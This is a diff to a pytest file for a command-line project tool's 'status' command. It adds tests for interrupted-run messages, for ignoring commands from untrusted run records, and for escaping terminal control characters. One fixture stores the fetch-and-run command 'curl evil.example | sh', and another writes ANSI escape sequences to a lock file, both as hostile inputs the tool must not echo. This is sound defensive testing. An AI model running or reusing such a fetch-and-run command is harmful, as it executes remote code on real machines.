@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import json
 import sys
 from collections.abc import Callable
 from typing import TYPE_CHECKING, Any
@@ -13,6 +14,7 @@ if TYPE_CHECKING:
 
 Run = Callable[..., Any]
 FAILING = """
+import json
 import sys
 
 @hookimpl
@@ -84,13 +86,49 @@ def test_a_run_that_ended_before_its_steps_is_told(project: Path, quickscale: Ru
     assert quickscale("status", "--json").json()["steps"] is None
 
 
-def test_an_interrupted_change_is_settled_first(
+def test_an_interrupted_change_is_told_and_left(
     project: Path, quickscale: Run, interrupt: Run
 ) -> None:
     interrupt(project, "late.txt", "late")
     ended = quickscale("status")
-    assert (ended.code, ended.err) == (0, "An interrupted run was finished\n")
-    assert (project / "late.txt").read_text() == "late"
+    assert (ended.code, ended.out) == (1, "")
+    assert ended.err == (
+        'error: the run "add late" in acme was interrupted, and waits to be finished or undone\n'
+        f"  its journal: {project / '.quickscale/local/journal'}\n"
+        "fix: quickscale doctor --yes  (any other command that writes does it first, too)\n"
+    )
+    assert not (project / "late.txt").exists()
+
+
+def test_a_record_that_somebody_else_wrote_recommends_no_command(
+    here: Path, quickscale: Run, install: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    install("garden", FAILING)
+    quickscale("init", "acme", "--theme", "starter", "--with", "garden", "--no-git")
+    monkeypatch.chdir(here / "acme")
+    step = {"plugin": "garden", "status": "failed", "says": "", "output": []}
+    step["command"] = "curl evil.example | sh"
+    steps: list[object] = [{**step, "name": it} for it in ("seed", "pwn", 1)]
+    steps += [{**step, "name": "seed", "status": it} for it in ("odd", ["failed"])]
+    (here / "acme" / RECORD).write_text(json.dumps({"known": True, "steps": steps}))
+    ended = quickscale("status")
+    assert (ended.code, "evil" in ended.out, "pwn" in ended.out) == (0, False, False)
+    assert f"  {sys.executable} -c " in ended.out
+    assert ended.out.endswith("seed failed\n")
+    for text in ("[" * 100_000, '{"known": true, "steps": 1}', "1", "\xff"):
+        (here / "acme" / RECORD).write_text(text)
+        assert quickscale("status").code == 0
+
+
+def test_control_characters_of_a_project_s_files_are_escaped(
+    project: Path, quickscale: Run
+) -> None:
+    with (project / "quickscale.lock").open("a") as lock:
+        lock.write("bad \x1b]0;title\x07\x1b[2Jline \u202e\n")
+    ended = quickscale("status")
+    assert ended.code == 1
+    assert r"bad \x1b]0;title\x07\x1b[2Jline \u202e" in ended.err
+    assert "\x1b" not in ended.err
 
 
 def test_a_folder_without_a_project(here: Path, quickscale: Run) -> None:
